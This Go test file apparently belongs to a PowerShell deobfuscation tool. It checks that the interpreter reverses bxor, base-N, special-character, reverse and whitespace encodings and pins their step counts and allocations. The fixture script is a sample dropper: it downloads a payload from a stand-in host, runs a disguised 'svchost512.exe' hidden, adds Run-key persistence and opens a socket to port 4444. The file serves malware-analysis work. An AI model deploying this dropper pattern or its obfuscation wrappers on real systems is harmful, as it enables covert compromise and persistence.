package psinterp

import (
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

// decoderScript is the fixed corpus-style script the decoder tests
// encode: a downloader, dropper and persistence script of the shapes
// internal/corpus renders, ASCII only so every encoder applies.
const decoderScript = `$head = 'http://cdn42.update7.example/pay'
$tail = 'load417.ps1'
$url = $head + $tail
$client = New-Object Net.WebClient
$client.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
$script = $client.downloadstring($url)
$path = Join-Path $env:TEMP 'svchost512.exe'
$client.DownloadFile('https://mirror31.static4.test/drop/svchost512.exe', $path)
Start-Process -FilePath $path -WindowStyle Hidden
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Updater' -Value $path -Force
$socket = New-Object Net.Sockets.TcpClient('203.0.113.17', 4444)
Invoke-Expression $script`

// The decoder builders below render the wrapper expressions
// internal/obfuscate's level-3 encoders emit (without the IEX that
// runs the result), so the interpreter sees the same shapes the
// recovery phase evaluates on layered inputs.

func psQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }

func codesOf(s string, code func(r rune) string) string {
	codes := make([]string, 0, len(s))
	for _, r := range s {
		codes = append(codes, code(r))
	}
	return strings.Join(codes, ",")
}

// bxorDecoder is the paper's Listing 4 decoder; hexKey selects the
// quoted '0xNN' key spelling.
func bxorDecoder(s string, key int, hexKey bool) string {
	k := strconv.Itoa(key)
	if hexKey {
		k = psQuote(fmt.Sprintf("0x%X", key))
	}
	return fmt.Sprintf("((%s -split ',' | ForEach-Object {[char]([int]$_ -bxor %s)}) -join '')",
		psQuote(codesOf(s, func(r rune) string { return strconv.Itoa(int(r) ^ key) })), k)
}

func decimalDecoder(s string) string {
	return fmt.Sprintf("(-join ((%s) | ForEach-Object {[char]$_}))",
		codesOf(s, func(r rune) string { return strconv.Itoa(int(r)) }))
}

func baseDecoder(s string, base int) string {
	return fmt.Sprintf("(-join (%s -split ',' | ForEach-Object {[char][convert]::ToInt32($_,%d)}))",
		psQuote(codesOf(s, func(r rune) string { return strconv.FormatInt(int64(r), base) })), base)
}

func specialCharDecoder(s string) string {
	const specials, b = "!#%&*+;~", 12
	bang := func(i, n int) string { return psQuote(strings.Repeat(string(specials[i%len(specials)]), n)) }
	exprs := make([]string, 0, len(s))
	for i, r := range s {
		a, c := int(r)/b, int(r)%b
		switch {
		case a == 0:
			exprs = append(exprs, fmt.Sprintf("[char](%s.Length)", bang(i, c)))
		case c == 0:
			exprs = append(exprs, fmt.Sprintf("[char](%s.Length*%s.Length)", bang(i, a), bang(i+1, b)))
		default:
			exprs = append(exprs, fmt.Sprintf("[char](%s.Length*%s.Length+%s.Length)", bang(i, a), bang(i+1, b), bang(i+2, c)))
		}
	}
	return fmt.Sprintf("(-join (%s))", strings.Join(exprs, ","))
}

func reverseDecoder(s string) string {
	runes := []rune(s)
	for i, j := 0, len(runes)-1; i < j; i, j = i+1, j-1 {
		runes[i], runes[j] = runes[j], runes[i]
	}
	return fmt.Sprintf("-join (%s[%d..0])", psQuote(string(runes)), len(runes)-1)
}

// whitespaceDecoder is the loop decoder of the whitespace encoding
// (each character a run of spaces, split on tabs).
func whitespaceDecoder(s string) string {
	runs := make([]string, 0, len(s))
	for _, r := range s {
		runs = append(runs, strings.Repeat(" ", int(r)))
	}
	return fmt.Sprintf("$v = %s\n$o = ''\nforeach ($seg in $v -split \"`t\") { $o += [char]$seg.Length }\n$o",
		psQuote(strings.Join(runs, "\t")))
}

// pinnedCase is one evaluation whose output and step count are pinned.
type pinnedCase struct {
	name  string
	src   string
	want  string // output values rendered by renderOutput
	steps int
}

// renderOutput renders pipeline output one value per line, marking
// nulls and nested arrays so shape changes show.
func renderOutput(out []any) string {
	var sb strings.Builder
	for i, v := range out {
		if i > 0 {
			sb.WriteByte('\n')
		}
		switch x := v.(type) {
		case nil:
			sb.WriteString("<null>")
		case []any:
			fmt.Fprintf(&sb, "<array %d: %s>", len(x), renderOutput(x))
		default:
			sb.WriteString(ToString(x))
		}
	}
	return sb.String()
}

func parseCase(t testing.TB, src string) *psast.ScriptBlock {
	t.Helper()
	sb, err := psparser.Parse(src)
	if err != nil {
		t.Fatalf("parse %q: %v", src, err)
	}
	return sb
}

// decoderCases applies every level-3 decoder the obfuscator emits to
// decoderScript. Each one must reproduce the script exactly.
func decoderCases() []pinnedCase {
	return []pinnedCase{
		{name: "bxor", src: bxorDecoder(decoderScript, 42, false), want: decoderScript, steps: 4954},
		{name: "bxor-hex-key", src: bxorDecoder(decoderScript, 0x5C, true), want: decoderScript, steps: 4954},
		{name: "base2", src: baseDecoder(decoderScript, 2), want: decoderScript, steps: 3717},
		{name: "base8", src: baseDecoder(decoderScript, 8), want: decoderScript, steps: 3717},
		{name: "base10", src: decimalDecoder(decoderScript), want: decoderScript, steps: 3098},
		{name: "base16", src: baseDecoder(decoderScript, 16), want: decoderScript, steps: 3717},
		{name: "special-char", src: specialCharDecoder(decoderScript), want: decoderScript, steps: 5957},
		{name: "reverse", src: reverseDecoder(decoderScript), want: decoderScript, steps: 8},
		{name: "whitespace", src: whitespaceDecoder(decoderScript[:120]), want: decoderScript[:120], steps: 730},
	}
}

// shapeCases are ForEach-Object bodies and statement forms whose
// output is appended statement by statement.
var shapeCases = []pinnedCase{
	{name: "multi-statement", src: "1..4 | ForEach-Object { $d = $_ * 2; $d; $d + 1 }", want: "2\n3\n4\n5\n6\n7\n8\n9", steps: 49},
	{name: "null-output", src: "1..3 | ForEach-Object { $null; $_; $null }", want: "1\n2\n3", steps: 26},
	{name: "array-output", src: "1..3 | ForEach-Object { @($_, 'x'); ,($_, 'y') }", want: "1\nx\n<array 2: 1\ny>\n2\nx\n<array 2: 2\ny>\n3\nx\n<array 2: 3\ny>", steps: 44},
	{name: "empty-array-output", src: "1..2 | ForEach-Object { @(); $_ }", want: "1\n2", steps: 15},
	{name: "continue-break", src: "1..10 | ForEach-Object { if ($_ -eq 3) { continue }; if ($_ -gt 6) { break }; $_ }", want: "1\n2\n4\n5\n6", steps: 125},
	{name: "begin-process-end", src: "1..3 | ForEach-Object -Begin { 'start'; $t = 0 } -Process { $t += $_; $_ * 10 } -End { 'end'; $t }", want: "start\n10\n20\n30\nend\n6", steps: 39},
	{name: "positional-blocks", src: "'a','b' | ForEach-Object { 'b0' } { $_.ToUpper() } { 'e0' }", want: "b0\nA\nB\ne0", steps: 19},
	{name: "percent-alias", src: "'x','y' | % { $_ + $_ }", want: "xx\nyy", steps: 15},
	{name: "statement-forms", src: "$r = foreach ($i in 1..3) { $i; if ($i -eq 2) { 'two' } else { 'other' } }\n$r\nwhile ($j -lt 2) { $j++; $j }\nswitch (2) { 1 { 'one' } 2 { 'two' } }\ntry { 'in'; throw 'x' } catch { 'caught' } finally { 'fin' }\nfunction f { 'f1'; return 'f2' }\nf\n$(1; 2)\n@(3; 4)\n'last'", want: "1\nother\n2\ntwo\n3\nother\n1\n2\ntwo\nin\ncaught\nfin\nf1\nf2\n1\n2\n3\n4\nlast", steps: 101},
}

// TestDecoderStepsPinned pins the output and the exact step count of
// every decoder and body shape. Step budgets decide which pieces fold,
// so an interpreter change that moves a count can change what the
// engine recovers even when every value is the same.
func TestDecoderStepsPinned(t *testing.T) {
	for _, tc := range append(decoderCases(), shapeCases...) {
		t.Run(tc.name, func(t *testing.T) {
			in := New(Options{})
			out, err := in.EvalScript(parseCase(t, tc.src))
			if err != nil {
				t.Fatalf("eval: %v", err)
			}
			if got := renderOutput(out); got != tc.want {
				t.Errorf("output:\n%s\nwant:\n%s", got, tc.want)
			}
			if in.steps != tc.steps {
				t.Errorf("steps = %d, want %d", in.steps, tc.steps)
			}
		})
	}
}

// hotDecoders are the decoders layered inputs spend most of their
// interpreter time in, with the allocation bound per decoded character
// TestDecoderAllocations holds them to. Each bound is half of what the
// interpreter allocated before -split learned literal separators and
// statement output was appended in place (5.1, 3.1 and 7.1).
var hotDecoders = []struct {
	name     string
	src      string
	maxAlloc float64
}{
	{"bxor", bxorDecoder(decoderScript, 42, false), 2.5},
	{"base10", decimalDecoder(decoderScript), 1.5},
	{"base8", baseDecoder(decoderScript, 8), 3.5},
}

// TestDecoderAllocations gates the per-element cost of the hot
// decoders on a count, not a time, so it holds on any host.
func TestDecoderAllocations(t *testing.T) {
	for _, d := range hotDecoders {
		sb := parseCase(t, d.src)
		allocs := testing.AllocsPerRun(20, func() {
			if _, err := New(Options{}).EvalScript(sb); err != nil {
				t.Fatal(err)
			}
		})
		perChar := allocs / float64(len(decoderScript))
		t.Logf("%s: %.0f allocs, %.2f per character", d.name, allocs, perChar)
		if perChar > d.maxAlloc {
			t.Errorf("%s: %.2f allocations per decoded character, want at most %.2f", d.name, perChar, d.maxAlloc)
		}
	}
}

func BenchmarkDecoders(b *testing.B) {
	for _, d := range hotDecoders {
		sb := parseCase(b, d.src)
		b.Run(d.name, func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				if _, err := New(Options{}).EvalScript(sb); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
